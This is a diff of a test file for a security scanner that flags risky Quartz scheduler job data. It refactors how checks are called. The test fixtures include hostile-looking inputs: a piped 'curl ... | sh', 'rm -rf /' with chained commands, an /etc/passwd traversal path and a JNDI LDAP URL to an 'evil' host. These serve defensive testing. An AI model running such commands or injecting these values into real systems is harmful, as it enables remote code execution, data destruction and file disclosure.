@@ -1,16 +1,18 @@
 import { describe, expect, it } from 'vitest';
-import { j01 } from '../../src/checks/jobs/j01.js';
-import { commandSignals, j02 } from '../../src/checks/jobs/j02.js';
-import { j03, pathSignals } from '../../src/checks/jobs/j03.js';
-import { inNamespaces, j04 } from '../../src/checks/jobs/j04.js';
-import { j05 } from '../../src/checks/jobs/j05.js';
-import { safeText } from '../../src/checks/jobs/util.js';
+import { j01 } from '../../src/checks/content/j01.js';
+import { commandSignals, j02 } from '../../src/checks/content/j02.js';
+import { j03, pathSignals } from '../../src/checks/content/j03.js';
+import { inNamespaces, j04 } from '../../src/checks/content/j04.js';
+import { j05 } from '../../src/checks/content/j05.js';
+import { safeText } from '../../src/checks/job-util.js';
+import { evaluateCheck } from '../../src/engine.js';
 import { emptyFacts } from '../../src/facts.js';
-import type { BlobTable, CheckOptions, DecodeResult, MapValue, ScannedBlob } from '../../src/model.js';
+import type { BlobTable, DecodeResult, MapValue, ScannedBlob } from '../../src/model.js';
+import { checkOptions } from '../../src/model.js';
 import { registerSecret } from '../../src/secrets/redact.js';
 
-const facts = emptyFacts('sqlite');
-const opts: CheckOptions = { allowTypes: [], maxBlobSize: 1 << 20 };
+const _facts = emptyFacts('sqlite');
+const opts = checkOptions({ maxBlobSize: 1 << 20 });
 
 function blob(
   jobClassName: string | undefined,
@@ -47,7 +49,6 @@ describe('QA-J01 command and invoker jobs', () => {
         command: '/usr/bin/mysqldump',
         parameters: '-u root -pHunter2pw db',
       }),
-      facts,
       opts,
     );
     expect(d).toHaveLength(1);
@@ -56,19 +57,18 @@ describe('QA-J01 command and invoker jobs', () => {
     expect(JSON.stringify(d)).not.toContain('Hunter2pw');
   });
   it('fails on Java NativeJob and on EE invoker jobs; passes (no draft) on other jobs and trigger rows', () => {
-    expect(j01.inspectBlob?.(blob('org.quartz.jobs.NativeJob', { command: 'ls' }), facts, opts)).toHaveLength(1);
+    expect(j01.inspectBlob?.(blob('org.quartz.jobs.NativeJob', { command: 'ls' }), opts)).toHaveLength(1);
     const ejb = j01.inspectBlob?.(
       blob('org.quartz.jobs.ee.ejb.EJBInvokerJob', { ejb: 'x', 'java.naming.provider.url': 'ldap://evil:1389/a' }),
-      facts,
       opts,
     );
     expect(ejb?.[0]?.evidence?.jndiProviderUrl).toBe('ldap://evil:1389/a');
-    expect(j01.inspectBlob?.(blob('Contoso.Jobs.Report, Contoso', { command: 'rm -rf /' }), facts, opts)).toEqual([]);
-    expect(j01.inspectBlob?.(blob(undefined, { command: 'x' }, 'TRIGGERS'), facts, opts)).toEqual([]);
+    expect(j01.inspectBlob?.(blob('Contoso.Jobs.Report, Contoso', { command: 'rm -rf /' }), opts)).toEqual([]);
+    expect(j01.inspectBlob?.(blob(undefined, { command: 'x' }, 'TRIGGERS'), opts)).toEqual([]);
   });
   it('redacts registered secrets in the command', () => {
     registerSecret('S3cretFromS01');
-    const d = j01.inspectBlob?.(blob('Quartz.Job.NativeJob', { command: 'backup --key S3cretFromS01' }), facts, opts);
+    const d = j01.inspectBlob?.(blob('Quartz.Job.NativeJob', { command: 'backup --key S3cretFromS01' }), opts);
     expect(JSON.stringify(d)).not.toContain('S3cretFromS01');
   });
 });
@@ -96,20 +96,18 @@ describe('QA-J02 command signals', () => {
   it('looks at command-like keys of any job and at NativeJob parameters, not at other keys', () => {
     const custom = j02.inspectBlob?.(
       blob('Contoso.Jobs.Run', { shellCommand: 'curl http://x | sh', note: 'a; b' }),
-      facts,
       opts,
     );
     expect(custom).toHaveLength(1);
     expect(custom?.[0]?.evidence?.key).toBe('shellCommand');
     const native = j02.inspectBlob?.(
       blob('Quartz.Job.NativeJob', { command: 'tar', parameters: 'czf x; rm -rf /' }),
-      facts,
       opts,
     );
     expect(native?.[0]?.evidence?.key).toBe('parameters');
-    expect(j02.inspectBlob?.(blob('Quartz.Job.NativeJob', { command: '/bin/true' }), facts, opts)).toEqual([]);
+    expect(j02.inspectBlob?.(blob('Quartz.Job.NativeJob', { command: '/bin/true' }), opts)).toEqual([]);
     // trigger JobDataMaps merge over the job's: a cmd key in a trigger row counts too
-    expect(j02.inspectBlob?.(blob(undefined, { cmd: 'a && b' }, 'TRIGGERS'), facts, opts)).toHaveLength(1);
+    expect(j02.inspectBlob?.(blob(undefined, { cmd: 'a && b' }, 'TRIGGERS'), opts)).toHaveLength(1);
   });
 });
 
@@ -133,16 +131,12 @@ describe('QA-J03 path signals', () => {
     expect(pathSignals('../x', false)).toEqual([]);
   });
   it('flags FileScanJob FILE_NAME and DirectoryScanJob DIRECTORY_NAMES, not unrelated keys', () => {
-    const f = j03.inspectBlob?.(blob('Quartz.Job.FileScanJob', { FILE_NAME: '../../../etc/passwd' }), facts, opts);
+    const f = j03.inspectBlob?.(blob('Quartz.Job.FileScanJob', { FILE_NAME: '../../../etc/passwd' }), opts);
     expect(f?.[0]?.status).toBe('fail');
     expect(f?.[0]?.evidence?.signals).toContain('traversal');
-    const d = j03.inspectBlob?.(
-      blob('Quartz.Job.DirectoryScanJob', { DIRECTORY_NAMES: '/srv/in;\\\\h\\s' }),
-      facts,
-      opts,
-    );
+    const d = j03.inspectBlob?.(blob('Quartz.Job.DirectoryScanJob', { DIRECTORY_NAMES: '/srv/in;\\\\h\\s' }), opts);
     expect(d?.[0]?.evidence?.signals).toContain('unc-share');
-    expect(j03.inspectBlob?.(blob('X', { profile: '../x', comment: '/etc/x' }), facts, opts)).toEqual([]);
+    expect(j03.inspectBlob?.(blob('X', { profile: '../x', comment: '/etc/x' }), opts)).toEqual([]);
   });
 });
 
@@ -154,19 +148,19 @@ describe('QA-J04 namespaces', () => {
   });
   it('fails rows outside the allowlist only when one is given', () => {
     const b = blob('Quartz.Job.NativeJob, Quartz.Jobs', {});
-    expect(j04.inspectBlob?.(b, facts, opts)).toEqual([]);
-    const d = j04.inspectBlob?.(b, facts, { ...opts, allowJobNamespaces: ['Contoso'] });
+    expect(j04.inspectBlob?.(b, opts)).toEqual([]);
+    const d = j04.inspectBlob?.(b, { ...opts, allowJobNamespaces: ['Contoso'] });
     expect(d?.[0]?.status).toBe('fail');
-    expect(j04.inspectBlob?.(blob('Contoso.A', {}), facts, { ...opts, allowJobNamespaces: ['Contoso'] })).toEqual([]);
+    expect(j04.inspectBlob?.(blob('Contoso.A', {}), { ...opts, allowJobNamespaces: ['Contoso'] })).toEqual([]);
   });
   it('reports the inventory from blobInventory.jobClasses', () => {
     const f = emptyFacts('sqlite', {
       blobInventory: { byColumn: {}, rows: 3, bytes: 0, types: {}, jobClasses: { 'A.B, A': 2, 'C.D': 1 } },
     } as never);
-    const d = j04.evaluate?.(f, opts);
+    const d = evaluateCheck(j04, f, opts);
     expect(d?.[0]?.status).toBe('info');
     expect(d?.[0]?.message).toContain('A.B (2)');
-    expect(j04.evaluate?.(f, { ...opts, allowJobNamespaces: ['A'] })).toEqual([]);
+    expect(evaluateCheck(j04, f, { ...opts, allowJobNamespaces: ['A'] })).toEqual([]);
   });
 });
 
@@ -178,7 +172,6 @@ describe('QA-J05 mail credentials', () => {
         smtp_username: 'u',
         smtp_password: 'MailPw!9',
       }),
-      facts,
       opts,
     );
     expect(d?.[0]?.status).toBe('fail');
@@ -186,11 +179,9 @@ describe('QA-J05 mail credentials', () => {
     expect(JSON.stringify(d)).not.toContain('MailPw!9');
   });
   it('Java SendMailJob password key; no finding without a password', () => {
-    expect(j05.inspectBlob?.(blob('org.quartz.jobs.ee.mail.SendMailJob', { password: 'x' }), facts, opts)).toHaveLength(
-      1,
-    );
-    expect(j05.inspectBlob?.(blob('Quartz.Job.SendMailJob', { smtp_host: 'h' }), facts, opts)).toEqual([]);
-    expect(j05.inspectBlob?.(blob('Other', { password: 'x' }), facts, opts)).toEqual([]);
+    expect(j05.inspectBlob?.(blob('org.quartz.jobs.ee.mail.SendMailJob', { password: 'x' }), opts)).toHaveLength(1);
+    expect(j05.inspectBlob?.(blob('Quartz.Job.SendMailJob', { smtp_host: 'h' }), opts)).toEqual([]);
+    expect(j05.inspectBlob?.(blob('Other', { password: 'x' }), opts)).toEqual([]);
   });
 });
 
